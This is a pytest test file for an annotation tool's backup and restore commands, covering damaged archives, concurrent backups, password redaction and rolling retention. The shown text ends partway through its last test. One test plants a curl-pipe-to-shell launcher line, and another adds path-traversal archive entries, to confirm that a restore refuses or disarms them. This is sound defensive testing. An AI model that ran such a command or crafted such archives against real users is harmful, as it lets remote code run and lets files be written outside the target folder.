"""Backups: made while people work, checked, and brought back whole."""

import contextlib
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote
from uuid import UUID

import httpx
import psutil
import pytest
from conftest import free_port
from hypothesis import given
from hypothesis import strategies as st
from kill_argilla import Site, at_work
from postgres import Postgres
from projects import fill, make_project

from annotation.backups.archive import readable_size
from annotation.backups.make import _own_staging, archives, back_up, rolling_folder
from annotation.backups.restore import restore
from annotation.backups.rolling import roll, standing, superfluous
from annotation.config import check_settings
from annotation.database_address import Database
from annotation.errors import ProjectError, ServerError, SettingsError
from annotation.hosting import embedded
from annotation.migrations import MIGRATIONS
from annotation.project import Project
from annotation.server import rolling as rolling_clock
from annotation.tasks.ranking.slates import read_slates
from sync.doctor import examine
from sync.reporting.status import report

SETTINGS = '[project]\ncountries = ["MX"]\nlanguages = ["es"]\n'


@pytest.fixture
def project(tmp_path: Path) -> Project:
    """A project with judgements and secrets whose Argilla was never started."""
    made = make_project(tmp_path / "México 1", SETTINGS)
    fill(made, 3)
    made.keep_secrets({"pseudonym_key": "k", "passwords": {"mx_1": "secreto"}})
    (made.folder / "snapshots" / "one").mkdir(parents=True)
    (made.folder / "snapshots" / "one" / "snapshot.json").write_text("{}")
    (made.folder / "runs" / "first").mkdir(parents=True)
    (made.folder / "runs" / "first" / "adapter").write_bytes(b"x" * 1000)
    return made


def rows(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table."""
    with contextlib.closing(sqlite3.connect(path)) as database:
        tables = [row[1] for row in database.execute("pragma table_list") if row[2] == "table"]
        return {name: sorted(database.execute(f'select * from "{name}"'), key=repr) for name in tables}


def annot(*words: str, **environment: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "annotation.cli", *words]
    return subprocess.run(
        command, capture_output=True, text=True, check=False, env={**os.environ, **environment}, timeout=120
    )


# --- without a server ---------------------------------------------------------------------------------


def test_a_project_comes_back_as_it_was(project: Project, tmp_path: Path) -> None:
    report(project)  # makes what is counted beside the ledger: nothing that is worth a copy
    made = back_up(project)
    archive = Path(made.path)
    assert archive.parent == project.folder / "backups"
    assert stat.S_IMODE(archive.stat().st_mode) == 0o600
    assert made.counts["ledger.items"] == 3
    assert made.left_out == {"runs": 1000}

    place = tmp_path / "elsewhere" / "again"
    restore(archive, place)
    assert sorted(path.name for path in place.iterdir()) == ["annot.toml", "ledger.sqlite", "secrets.toml", "snapshots"]
    again = Project.open(place)
    assert rows(place / "ledger.sqlite") == rows(project.folder / "ledger.sqlite")
    assert again.ledger.responses() == project.ledger.responses()
    assert again.secrets() == project.secrets()
    assert stat.S_IMODE((place / "secrets.toml").stat().st_mode) == 0o600
    assert (place / "snapshots" / "one" / "snapshot.json").read_text() == "{}"


def test_a_backup_of_a_ledger_that_is_written_to_is_one_moment(project: Project, tmp_path: Path) -> None:
    """Another process writes two tables in one transaction all the time: the copy never has one without the other."""
    write = (
        "import sys; from pathlib import Path\n"
        "from annotation.ledger import Ledger\nfrom annotation.ledger_file import now\n"
        "ledger = Ledger(Path(sys.argv[1])); number = 0\n"
        "while True:\n"
        "    number += 1\n"
        "    with ledger.transaction() as db:\n"
        "        db.execute('insert into launches values (?,?,?,?)', (str(number), 's', str(number), now()))\n"
        "        db.execute('insert into launch_events (run, event, detail, at) values (?,?,?,?)',\n"
        "                   (str(number), 'begun', 'x' * 500, now()))\n"
        "    print(number, flush=True)\n"
    )
    ledger = str(project.folder / "ledger.sqlite")
    writing = subprocess.Popen([sys.executable, "-c", write, ledger], stdout=subprocess.PIPE, text=True)
    try:
        assert writing.stdout is not None
        for _ in range(20):
            writing.stdout.readline()
        counts = [back_up(project, tmp_path / f"{number}.zip").counts for number in range(4)]
    finally:
        writing.kill()
        writing.communicate()
    assert all(found["ledger.launches"] == found["ledger.launch_events"] >= 20 for found in counts)
    assert counts[0]["ledger.launches"] < counts[-1]["ledger.launches"]


def test_the_folder_s_odd_names_and_other_folders_are_taken_as_they_are(project: Project, tmp_path: Path) -> None:
    (tmp_path / "a % 'disk'").mkdir()
    made = back_up(project, tmp_path / "a % 'disk'")
    assert Path(made.path).name.startswith("México-1-2")
    with pytest.raises(ProjectError, match="exists already"):
        back_up(project, Path(made.path))


def test_what_killed_backups_left_is_removed_and_not_told_as_left_out(project: Project) -> None:
    names = [_own_staging(project), ".annot-backup-00000000", ".annot-backup-11111111"]
    for name in names:
        (project.folder / name).mkdir()
        (project.folder / name / "server").write_bytes(b"x" * 1000)
    long_ago = time.time() - 100_000
    for path in (project.folder / names[1], project.folder / names[1] / "server"):
        os.utime(path, (long_ago, long_ago))
    assert back_up(project, project.folder / "one.zip").left_out == {"runs": 1000}
    # Its own, and one that nobody writes to any more; the third may be another project's at work.
    assert [path.name for path in project.folder.glob(".annot-backup-*")] == names[2:]


def test_two_backups_at_once_are_two_archives(project: Project) -> None:
    command = [sys.executable, "-m", "annotation.cli", "backup", "--json", "--project", str(project.folder)]
    both = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    said = [each.communicate(timeout=60) for each in both]
    assert [each.returncode for each in both] == [0, 0], said
    assert len({json.loads(out)["path"] for out, _ in said}) == 2
    assert len(list((project.folder / "backups").iterdir())) == 2


@pytest.mark.parametrize("name", ["", "line\nbreak.zip", "bell\a.zip", "\x7f"])
def test_a_name_that_nobody_can_mean_is_refused(project: Project, name: str) -> None:
    before = sorted(path.name for path in project.folder.iterdir())
    done = annot("backup", f"{project.folder}/{name}" if name else "", "--project", str(project.folder))
    assert (done.returncode, done.stderr.count("\n")) == (2, 1), done.stderr
    assert "name" in done.stderr
    assert sorted(path.name for path in project.folder.iterdir()) == before


@pytest.mark.parametrize(
    ("size", "said"), [(0, "0.0 kB"), (1234, "1.2 kB"), (2_500_000, "2.5 MB"), (3_000_000_000, "3.0 GB")]
)
def test_sizes_are_told_in_a_unit_that_shows_them(size: int, said: str) -> None:
    assert readable_size(size) == said


def test_the_archives_of_a_project_are_listed(project: Project) -> None:
    made = [back_up(project, project.folder / "backups" / "one.zip"), roll(project)]
    (project.folder / "backups" / "torn.zip").write_bytes(Path(made[0].path).read_bytes()[:-100])
    listed = {found.path: found for found in archives(project)}
    assert [listed[found.path] for found in made] == made
    assert listed[str(project.folder / "backups" / "torn.zip")].database == "damaged"
    told = json.loads(annot("backup", "--list", "--json", "--project", str(project.folder)).stdout)
    assert {found["path"] for found in told["backups"]} == set(listed)


def test_a_name_without_an_ending_is_a_folder_and_guidelines_come_back(project: Project, tmp_path: Path) -> None:
    (project.folder / "guidelines").mkdir()
    (project.folder / "guidelines" / "gl.md").write_text("As nosas", encoding="utf-8")
    made = [back_up(project, tmp_path / "disk") for _ in range(2)]
    assert {Path(backup.path).parent for backup in made} == {tmp_path / "disk"}
    restore(Path(made[0].path), tmp_path / "place")
    assert (tmp_path / "place" / "guidelines" / "gl.md").read_text(encoding="utf-8") == "As nosas"


def test_the_last_archive_made_elsewhere_is_listed_although_its_disk_is_away(project: Project, tmp_path: Path) -> None:
    (tmp_path / "disk").mkdir()
    back_up(project, tmp_path / "disk" / "first.zip")
    there = back_up(project, tmp_path / "disk" / "second.zip")
    assert archives(project) == [there]
    shutil.rmtree(tmp_path / "disk")
    here = back_up(project)
    assert archives(project) == [here, there]
    note = project.folder / ".last-backup.json"
    for value in ({"made_at": 5}, {"counts": [1]}, {"bytes": "x"}):
        note.write_text(json.dumps({**json.loads(note.read_text()), **value}))
        assert archives(project) == [here]
    assert here.left_out == {"runs": 1000}


def test_after_a_move_the_abandoned_server_is_not_taken_for_the_project_s(project: Project, tmp_path: Path) -> None:
    home = project.argilla_home
    home.mkdir()
    with contextlib.closing(sqlite3.connect(home / "argilla.db")) as database:
        database.execute("create table users (name text)")
        database.commit()
    (home / "secrets.json").write_text("{}")
    text = SETTINGS + '[argilla]\nurl = "https://argilla.example.org"\n'
    moved = make_project(project.folder, text)
    said = annot("backup", str(tmp_path / "moved.zip"), "--project", str(moved.folder))
    assert "The server at https://argilla.example.org is not in it" in said.stdout
    assert ".argilla (" in said.stdout
    with zipfile.ZipFile(tmp_path / "moved.zip") as archive:
        assert not [name for name in archive.namelist() if name.startswith(".argilla")]
    again = annot("restore", str(tmp_path / "moved.zip"), "--project", str(tmp_path / "again"))
    assert f"annot status --project {tmp_path / 'again'}" in again.stdout
    for words, code in ((["down"], 0), (["logs"], 0), (["server", "reindex"], 2)):
        done = annot(*words, "--project", str(moved.folder))
        assert done.returncode == code, done.stderr
        told = "Argilla is at https://argilla.example.org; the embedded one is no longer used"
        assert told in done.stdout + done.stderr
    status = json.loads(annot("status", "--json", "--project", str(moved.folder)).stdout)
    assert status["server"] == {"url": "https://argilla.example.org", "embedded": False}


def test_a_place_that_is_not_empty_is_refused(project: Project, tmp_path: Path) -> None:
    archive = Path(back_up(project, tmp_path / "one.zip").path)
    before = (project.folder / "annot.toml").read_bytes()
    with pytest.raises(ProjectError, match=r"is not empty .*--project"):
        restore(archive, project.folder)
    assert (project.folder / "annot.toml").read_bytes() == before
    (tmp_path / "file").write_text("")
    with pytest.raises(ProjectError, match="is a file"):
        restore(archive, tmp_path / "file")


def test_a_restore_that_was_killed_is_begun_again(project: Project, tmp_path: Path) -> None:
    archive = Path(back_up(project, tmp_path / "one.zip").path)
    place = tmp_path / "place"
    (place / ".restoring").mkdir(parents=True)
    (place / ".restoring" / "annot.toml").write_text("half")
    (place / "ledger.sqlite").write_text("moved into place already")
    (place / ".argilla").mkdir()  # of another archive than the one that is taken now
    restore(archive, place)
    assert read_slates(Project.open(place).ledger) == read_slates(project.ledger)
    assert not (place / ".argilla").exists()
    # With anything of a person's own beside it, nothing is touched.
    (place / ".restoring").mkdir()
    with pytest.raises(ProjectError, match="is not empty"):
        restore(archive, place)


def damaged(archive: Path, change: Callable[[bytes], bytes]) -> Path:
    changed = archive.with_name("changed.zip")
    changed.write_bytes(change(archive.read_bytes()))
    return changed


def rewritten(archive: Path, change: Callable[[dict[str, Any], dict[str, bytes]], None]) -> Path:
    """The archive with another manifest or other files; its checksums are made to fit."""
    import hashlib

    with zipfile.ZipFile(archive) as old:
        contents = {name: old.read(name) for name in old.namelist()}
    manifest = json.loads(contents.pop("manifest.json"))
    change(manifest, contents)
    manifest["files"] = [
        {"name": name, "bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
        for name, content in contents.items()
    ]
    changed = archive.with_name("changed.zip")
    with zipfile.ZipFile(changed, "w") as new:
        for name, content in contents.items():
            new.writestr(zipfile.ZipInfo(name), content)
        new.writestr("manifest.json", json.dumps(manifest))
    return changed


@pytest.mark.parametrize(
    "change",
    [
        lambda content: content[:-1],
        lambda content: content[: len(content) // 2],
        lambda _content: b"",
        lambda _content: b"This is no archive. " * 50,
        lambda content: content[:200] + bytes([content[200] ^ 1]) + content[201:],
    ],
    ids=["one byte short", "half", "empty", "another file", "one bit turned"],
)
def test_a_damaged_archive_is_refused_before_anything_is_written(
    project: Project, tmp_path: Path, change: Callable[[bytes], bytes]
) -> None:
    archive = damaged(Path(back_up(project, tmp_path / "one.zip").path), change)
    for dry_run in (True, False):
        with pytest.raises(ProjectError, match="take another"):
            restore(archive, tmp_path / "place", dry_run=dry_run)
    assert not (tmp_path / "place").exists()
    done = annot("restore", str(archive), "--project", str(tmp_path / "place" / "inner"))
    assert (done.returncode, done.stderr.count("\n")) == (2, 1)
    assert not (tmp_path / "place").exists()


@pytest.mark.parametrize("name", ["ledger.sqlite", "annot.toml"])
def test_an_archive_that_lacks_what_makes_a_project_is_named(project: Project, tmp_path: Path, name: str) -> None:
    def drop(_manifest: dict[str, Any], contents: dict[str, bytes]) -> None:
        del contents[name]

    whole = Path(back_up(project, tmp_path / "one.zip").path)
    with zipfile.ZipFile(whole) as old, zipfile.ZipFile(tmp_path / "without.zip", "w") as new:
        for member in old.namelist():
            if member != name:
                new.writestr(member, old.read(member))
    for archive in (tmp_path / "without.zip", rewritten(whole, drop)):
        with pytest.raises(ProjectError, match=f"lacks {name}"):
            restore(archive, tmp_path / "place")
    assert not (tmp_path / "place").exists()


@pytest.mark.parametrize(
    "name",
    ["../outside", "/outside", "snapshots/../../outside", "snapshots/./x", "snapshots//x", ".argilla/../x", "C:\\x"],
)
def test_names_that_lead_out_of_the_folder_are_refused(project: Project, tmp_path: Path, name: str) -> None:
    def add(_manifest: dict[str, Any], contents: dict[str, bytes]) -> None:
        contents[name] = b"gotcha"

    (tmp_path / "inner").mkdir()
    archive = rewritten(Path(back_up(project, tmp_path / "inner" / "one.zip").path), add)
    with pytest.raises(ProjectError, match="damaged or foreign"):
        restore(archive, tmp_path / "inner" / "place")
    assert not [path for path in tmp_path.rglob("*") if path.is_file() and path.read_bytes() == b"gotcha"]


def test_a_manifest_that_no_memory_would_hold_is_not_read(project: Project, tmp_path: Path) -> None:
    def bloat(manifest: dict[str, Any], _contents: dict[str, bytes]) -> None:
        manifest["more"] = "x" * (65 * 1024 * 1024)

    archive = rewritten(Path(back_up(project, tmp_path / "one.zip").path), bloat)
    with pytest.raises(ProjectError, match=r"damaged manifest\.json"):
        restore(archive, tmp_path / "place")


def test_a_launcher_that_comes_in_an_archive_runs_nothing_until_somebody_puts_it_back(
    project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    line = "sh -c 'curl example.org | sh' {run}"
    path = project.folder / "annot.toml"
    text = path.read_text(encoding="utf-8")
    path.write_text(f"{text}\n[train]\nauto = true  # mine\nlauncher = {json.dumps(line)}\n", encoding="utf-8")
    restore(Path(back_up(project, tmp_path / "one.zip").path), tmp_path / "place")
    assert repr(line) in capsys.readouterr().err
    kept = (tmp_path / "place" / "annot.toml").read_text(encoding="utf-8")
    assert "auto = true  # mine" in kept
    assert line in kept, "a person can put it back"
    assert Project.open(tmp_path / "place").settings.train.launcher == "local"


def test_an_archive_of_a_newer_annot_is_refused(project: Project, tmp_path: Path) -> None:
    def newer_format(manifest: dict[str, Any], _contents: dict[str, bytes]) -> None:
        manifest["format"] += 1

    def newer_ledger(manifest: dict[str, Any], _contents: dict[str, bytes]) -> None:
        manifest["ledger"] = len(MIGRATIONS) + 1

    def newer_argilla(manifest: dict[str, Any], _contents: dict[str, bytes]) -> None:
        manifest["argilla"] = "2.80.0"

    archive = Path(back_up(project, tmp_path / "one.zip").path)
    for change in (newer_format, newer_ledger, newer_argilla):
        with pytest.raises(ProjectError, match="upgrade annot"):
            restore(rewritten(archive, change), tmp_path / "place")
    assert not (tmp_path / "place").exists()


def test_an_archive_that_says_more_than_it_holds_is_refused(project: Project, tmp_path: Path) -> None:
    def lie(manifest: dict[str, Any], _contents: dict[str, bytes]) -> None:
        manifest["counts"]["ledger.responses"] += 1

    archive = rewritten(Path(back_up(project, tmp_path / "one.zip").path), lie)
    with pytest.raises(ProjectError, match="other numbers of rows"):
        restore(archive, tmp_path / "place")
    assert not (tmp_path / "place").exists()


def test_a_damaged_ledger_is_named_and_no_archive_is_left(project: Project, tmp_path: Path) -> None:
    project.ledger.close()
    path = project.folder / "ledger.sqlite"
    with path.open("r+b") as file:
        file.seek(4096 + 10)
        file.write(b"\xff" * 3000)
    (tmp_path / "out").mkdir()
    with pytest.raises(ProjectError, match=r"ledger\.sqlite is damaged"):
        back_up(project, tmp_path / "out" / "one.zip")
    assert list((tmp_path / "out").iterdir()) == []


def test_a_backup_that_does_not_fit_says_so_and_leaves_nothing(project: Project, tmp_path: Path) -> None:
    """A limit for the size of files stands in for a full disk."""
    (project.folder / "snapshots" / "one" / "rankings.parquet").write_bytes(os.urandom(3_000_000))
    (tmp_path / "out").mkdir()
    limited = (
        "import resource, signal, sys; signal.signal(signal.SIGXFSZ, signal.SIG_IGN);"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (1_000_000, 1_000_000));"
        "from annotation.cli import main; main()"
    )
    for words in (["backup", str(tmp_path / "out" / "one.zip")], ["backup", "--rolling"]):
        command = [sys.executable, "-c", limited, *words, "--project", str(project.folder)]
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        assert (done.returncode, done.stderr.count("\n")) == (2, 1), done.stderr
        assert "make room" in done.stderr
    assert list((tmp_path / "out").iterdir()) == []
    assert "rolling backup failed" in standing(project)
    assert "make room" in standing(project)
    roll(project)
    assert standing(project) == ""


def test_a_folder_that_is_not_there_is_not_made_on_the_wrong_disk(project: Project, tmp_path: Path) -> None:
    with pytest.raises(ProjectError, match=r"There is no folder .*usb: make it, or put in the disk that it is on\.$"):
        back_up(project, tmp_path / "usb" / "one.zip")
    assert list(tmp_path.glob("usb*")) == []


def test_a_backup_that_finds_no_record_of_what_was_pushed_says_so(project: Project, tmp_path: Path) -> None:
    project.argilla_home.mkdir()
    with contextlib.closing(sqlite3.connect(project.argilla_home / "argilla.db")) as database:
        database.execute("create table records (id text)")
        database.commit()
    assert "warning" not in annot("backup", str(tmp_path / "before.zip"), "--project", str(project.folder)).stdout
    project.ledger.add_pushes("server", "dataset", {"s1": "r1"})
    said = annot("backup", str(tmp_path / "after.zip"), "--project", str(project.folder)).stdout
    assert "warning: slates were pushed, and Argilla held no record" in said


def test_an_empty_ledger_beside_an_argilla_is_not_taken_for_a_new_one(project: Project) -> None:
    project.ledger.close()
    path = project.folder / "ledger.sqlite"
    path.write_bytes(b"")
    project.argilla_home.mkdir()
    (project.argilla_home / "server.json").write_text("{}")
    done = annot("status", "--project", str(project.folder))
    assert done.returncode == 2
    assert "ledger.sqlite is empty, and this project has an Argilla already" in done.stderr
    assert path.read_bytes() == b""


def test_a_ledger_that_is_gone_is_not_begun_anew(project: Project, tmp_path: Path) -> None:
    project.ledger.close()
    (project.folder / "ledger.sqlite").unlink()
    for words in (["status"], ["backup", str(tmp_path / "one.zip")], ["up"]):
        done = annot(*words, "--project", str(project.folder))
        assert (done.returncode, done.stderr.count("\n")) == (2, 1), done.stderr
        assert "ledger.sqlite is gone, and snapshots was made from it" in done.stderr
    assert not (project.folder / "ledger.sqlite").exists()
    assert not (tmp_path / "one.zip").exists()


def test_of_two_restores_into_one_folder_one_is_refused_and_the_other_is_whole(
    project: Project, tmp_path: Path
) -> None:
    archive = back_up(project, tmp_path / "one.zip").path
    command = [sys.executable, "-m", "annotation.cli", "restore", archive, "--project", str(tmp_path / "again")]
    both = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    said = [one.communicate()[1] for one in both]
    assert sorted(one.returncode for one in both) == [0, 2], said
    assert "is restoring into" in "".join(said) or "is not empty" in "".join(said)
    assert Project.open(tmp_path / "again").ledger.prompts() == project.ledger.prompts()


@pytest.mark.parametrize("place", ["/proc/annot", "/dev/null/annot"])
def test_a_place_where_nothing_can_be_made_is_one_sentence(project: Project, tmp_path: Path, place: str) -> None:
    archive = back_up(project, tmp_path / "one.zip").path
    done = annot("restore", archive, "--project", place)
    assert (done.returncode, done.stderr.count("\n")) == (2, 1), done.stderr
    assert place in done.stderr


@pytest.mark.parametrize("archive", ["/dev/zero", "/tmp"])
def test_what_is_no_file_is_no_archive(tmp_path: Path, archive: str) -> None:
    done = annot("restore", archive, "--project", str(tmp_path / "p"))
    assert (done.returncode, done.stderr.count("\n")) == (2, 1), done.stderr
    assert f"{archive} is a folder or a device and no archive" in done.stderr


def test_the_rolling_backup_keeps_what_it_should(project: Project) -> None:
    path = project.folder / "annot.toml"
    path.write_text(path.read_text() + "[argilla]\nbackup_keep = 3\n")
    project = Project.open(project.folder)
    folder = rolling_folder(project)
    for hours in (1, 2, 30, 31):  # as if made so long ago
        made = back_up(project, folder / f"{hours}.zip")
        moment = (datetime.now(UTC) - timedelta(hours=hours)).timestamp()
        os.utime(made.path, (moment, moment))
    newest = roll(project)
    left = {found.name for found in folder.iterdir()}
    assert Path(newest.path).name in left
    assert len(left) == 3
    assert "1.zip" in left


@pytest.mark.parametrize("backup_keep", [1, 3])
def test_an_archive_of_the_future_stops_no_backup_and_pushes_out_none(
    project: Project, backup_keep: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = project.folder / "annot.toml"
    path.write_text(path.read_text() + f"[argilla]\nbackup_keep = {backup_keep}\n")
    project = Project.open(project.folder)
    folder = rolling_folder(project)
    early = back_up(project, folder / "p-20990101-000000.zip")
    moment = (datetime.now(UTC) + timedelta(days=3650)).timestamp()
    os.utime(early.path, (moment, moment))
    monkeypatch.chdir(folder.parent)
    Path("secrets.json").touch()
    os.utime("secrets.json", (9000, 9000))
    assert rolling_clock.RollingBackup([], 3600)._newest() == 9000
    Path("secrets.json").unlink()
    made = roll(project).path
    assert Path(made).exists()
    assert Path(early.path).exists()
    assert [found.path for found in archives(project)] == [made, early.path]
    assert annot("backup", "--list", "--project", str(project.folder)).stdout.count("Dated in the future") == 1
    findings = [f for f in examine(project.folder) if f.what == "backup"]
    assert [f.said for f in findings if f.level == "warn"] == [
        f"dated in the future, so never taken for the newest: {early.path}"
    ]
    assert made in " ".join(f.said for f in findings if f.level == "ok")


@given(
    st.lists(st.integers(0, 20 * 24), min_size=0, max_size=40),
    st.integers(1, 12),
)
def test_what_is_thrown_away_is_never_the_newest(hours: list[int], keep: int) -> None:
    start = datetime(2026, 1, 1, tzinfo=UTC)
    made = {Path(f"{number}.zip"): start + timedelta(hours=hour) for number, hour in enumerate(hours)}
    gone = superfluous(made, keep)
    kept = [path for path in made if path not in gone]
    assert len(kept) == min(keep, len(made))
    if made:
        assert max(made.values()) in [made[path] for path in kept]
    if len(made) > keep >= 4 and len({moment.date() for moment in made.values()}) >= keep:
        assert len({made[path].date() for path in kept}) > keep // 2  # it reaches back over days


# --- other people's databases -------------------------------------------------------------------------


def test_eight_archives_every_six_hours_reach_back_over_a_weekend() -> None:
    made: dict[Path, datetime] = {}
    for number in range(80):
        made[Path(f"{number}.zip")] = datetime(2026, 1, 1, tzinfo=UTC) + timedelta(hours=6 * number)
        for path in superfluous(made, 8):
            del made[path]
    newest = max(made.values())
    ages = sorted((newest - moment) / timedelta(days=1) for moment in made.values())
    assert ages[:4] == [0, 0.25, 0.5, 0.75]
    assert ages[4:] == [1, 2, 3, 4]


@pytest.mark.parametrize(
    ("address", "sentence"),
    [
        ("mysql://a:geheim@host/name", "SQLite file or on PostgreSQL"),
        ("postgresql://a:geheim@host", "no name of a database"),
        ("postgresql://:geheim@host/name", "no user"),
        ("postgresql://a:geheim@/name", "no host"),
        ("postgresql://a:geheim@host:port/name", "cannot be read"),
        ("postgresql://a:geheim@host/name?options=x", "parameter 'options'"),
        ("postgresql://a:geheim%00@host/name", "character NUL"),
    ],
)
def test_an_address_that_cannot_be_is_one_sentence_without_the_password(address: str, sentence: str) -> None:
    with pytest.raises(ServerError, match=sentence) as refused:
        Database.parse(address)
    assert "geheim" not in str(refused.value)
    with pytest.raises(SettingsError, match=sentence) as refused:
        check_settings({"argilla": {"database": address}}, place="annot.toml")
    assert "geheim" not in str(refused.value)


@given(
    st.sampled_from(["db.example.org", "127.0.0.1", "::1", "/run/postgresql"]),
    st.integers(1, 65535),
    st.text(st.characters(exclude_categories=("C", "Z")), min_size=1),
    st.text(st.characters(exclude_categories=("C", "Z")), min_size=1),
    st.text(st.characters(exclude_categories=("Cs", "Cc"))),
)
def test_an_address_is_read_as_it_is_written(host: str, port: int, name: str, user: str, password: str) -> None:
    database = Database(host, port, name, user, password, (("sslmode", "require"),))
    assert Database.parse(database.address) == database
    assert "password" not in repr(database)
    assert Database.parse(database.shown) == Database(host, port, name, user, "", database.ssl)
    assert database.environment()["PGHOST"] == host


def test_the_command_line_does_not_keep_the_password(project: Project) -> None:
    """The command replaces itself: its arguments, which everybody can list, lose the address."""
    (project.folder / "annot.toml").write_text(f"{SETTINGS}[argilla]\nport = {free_port()}\n")
    address = f"postgresql://a:geheim@127.0.0.1:{free_port()}/name"
    watched = subprocess.Popen(
        [sys.executable, "-m", "annotation.cli", "up", "--database", address, "--project", str(project.folder)],
        stderr=subprocess.PIPE,
        text=True,
    )
    seen = []
    while watched.poll() is None:
        with contextlib.suppress(psutil.Error):
            seen.append(psutil.Process(watched.pid).cmdline())
        time.sleep(0.01)
    _, said = watched.communicate()
    assert watched.returncode == 2
    assert "geheim" not in said
    assert "does not answer" in said
    without = [line for line in seen if line and not any("geheim" in word for word in line)]
    assert without[-1][-3:] == ["up", "--project", str(project.folder)]


def test_an_address_that_was_lost_is_asked_for_and_nothing_is_copied_without(project: Project, tmp_path: Path) -> None:
    project.argilla_home.mkdir()
    (project.argilla_home / "server.json").write_text(
        '{"port": 6900, "version": "2.8.0", "host": "127.0.0.1", "database": "postgresql://a@127.0.0.1/name"}'
    )
    (tmp_path / "out").mkdir()
    with pytest.raises(ServerError, match=r"secrets\.json is lost.*ANNOT_DATABASE_URL"):
        back_up(project, tmp_path / "out" / "one.zip")
    assert list((tmp_path / "out").iterdir()) == []
    with pytest.raises(ServerError, match=r"secrets\.json is lost.*ANNOT_DATABASE_URL"):
        embedded.start(project.argilla_home, port=free_port())


def test_a_password_does_not_belong_into_annot_toml(project: Project) -> None:
    path = project.folder / "annot.toml"
    path.write_text(f'{SETTINGS}[argilla]\ndatabase = "postgresql://a:geheim@host/name"\n')
    done = annot("up", "--project", str(project.folder))
    assert done.returncode == 2
    assert "ANNOT_DATABASE_URL" in done.stderr
    assert "geheim" not in done.stderr


def test_a_project_on_sqlite_does_not_change_to_postgresql_in_silence(project: Project) -> None:
    project.argilla_home.mkdir()
    (project.argilla_home / "argilla.db").write_bytes(b"")
    with pytest.raises(ServerError, match=r"argilla\.db.*`annot backup`.*`annot move`"):
        embedded.start(project.argilla_home, port=free_port(), database="postgresql://a:b@127.0.0.1/c")


@pytest.mark.server
def test_a_postgresql_that_cannot_be_used_is_one_sentence(
    project: Project, postgres: Postgres, monkeypatch: pytest.MonkeyPatch
) -> None:
    good = postgres.database()
    refusals = {
        postgres.url("nowhere"): "no such database.*createdb",
        good.replace(f":{postgres.port}/", f":{free_port()}/"): "does not answer",
        good.replace("postgresql://annot:", "postgresql://annot:not"): "does not let annot in.*password",
        good.replace("127.0.0.1", "no-such-host.invalid"): "does not answer",
    }
    for address, sentence in refusals.items():
        with pytest.raises(ServerError, match=sentence) as refused:
            embedded.start(project.argilla_home, port=free_port(), database=address)
        assert "\n" not in str(refused.value)
        assert postgres.password not in str(refused.value)
        assert not (project.argilla_home / "secrets.json").exists()

    name = good.rpartition("/")[2]
    ascii_only = f"{name}_ascii"
    c_locale = "lc_collate 'C' lc_ctype 'C' template template0"
    postgres.execute(f"create database {ascii_only} encoding 'SQL_ASCII' {c_locale}")
    guest = good.replace("//annot:", "//guest:")
    postgres.execute(f"create role guest login password '{postgres.password}'")
    restricted = {
        postgres.url(ascii_only): "keeps text as SQL_ASCII; .*createdb",
        guest: "guest may not make tables",
    }
    for address, sentence in restricted.items():
        with pytest.raises(ServerError, match=sentence):
            embedded.start(project.argilla_home, port=free_port(), database=address)
    with monkeypatch.context() as later:
        later.setattr("annotation.hosting.postgres.OLDEST", 99)
        with pytest.raises(ServerError, match=r"is version \d+; Argilla needs 99 or newer: upgrade it"):
            embedded.start(project.argilla_home, port=free_port(), database=good)
    postgres.execute(f"alter database {name} set default_transaction_read_only = on")
    with pytest.raises(ServerError, match="is read-only"):
        embedded.start(project.argilla_home, port=free_port(), database=good)
    postgres.execute(f"alter database {name} reset default_transaction_read_only")
    postgres.execute("create table theirs (x int)", good)
    with pytest.raises(ServerError, match="holds something already"):
        embedded.start(project.argilla_home, port=free_port(), database=good)


# --- the drill ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def kept(request: pytest.FixtureRequest) -> Iterator[tuple[Project, Site]]:
    """A project around an Argilla that runs, with people in it."""
    request.getfixturevalue(f"argilla_on_{request.param}")
    home: Path = request.getfixturevalue("argilla_home" if request.param == "sqlite" else "argilla_postgresql_home")
    project = make_project(home.parent, SETTINGS)
    fill(project, 2)
    with pytest.MonkeyPatch.context() as patch:
        if request.param == "postgresql":
            server: Postgres = request.getfixturevalue("postgres")
            patch.setenv("PATH", f"{server.programs}:{os.environ['PATH']}")
        yield project, Site(home)


def tables(project: Project) -> dict[str, list[dict[str, Any]]]:
    """Everything that Argilla knows, row by row; without our tables beside its own, which are made of these."""
    if address := embedded.database_of(project.argilla_home):

        def ask(query: str) -> list[str]:
            command = [psql(), "-qAt", address, "-c", query]
            return subprocess.run(command, capture_output=True, text=True, check=True).stdout.splitlines()

        names = ask("select tablename from pg_tables where schemaname = 'public' and tablename not like 'annot%'")
        found = {name: [json.loads(row) for row in ask(f'select row_to_json(t) from "{name}" t')] for name in names}
    else:
        with contextlib.closing(sqlite3.connect(project.argilla_home / "argilla.db")) as database:
            database.row_factory = sqlite3.Row
            listed = database.execute("pragma table_list").fetchall()
            names = [row["name"] for row in listed if row["type"] == "table" and not row["name"].startswith("annot")]
            found = {name: [dict(row) for row in database.execute(f'select * from "{name}"')] for name in names}
    return {name: sorted(found[name], key=repr) for name in sorted(found)}


def psql() -> str:
    """PostgreSQL's own client: the one that the fixture put on PATH."""
    found = shutil.which("psql")
    assert found
    return found


@pytest.mark.server
def test_a_backup_while_people_work_is_one_moment_of_their_work(kept: tuple[Project, Site], tmp_path: Path) -> None:
    """Everybody writes one thing after another: an archive holds the beginning of what each wrote, without a hole."""
    project, site = kept
    with at_work(site) as people:
        while min(len(person.records) for person in people) < 5:
            time.sleep(0.02)
        promised = [list(person.records) for person in people]
        answered = [set(person.answered) for person in people]
        done = annot("backup", str(tmp_path / "one.zip"), "--json", "--project", str(project.folder))
        assert done.returncode == 0, done.stderr
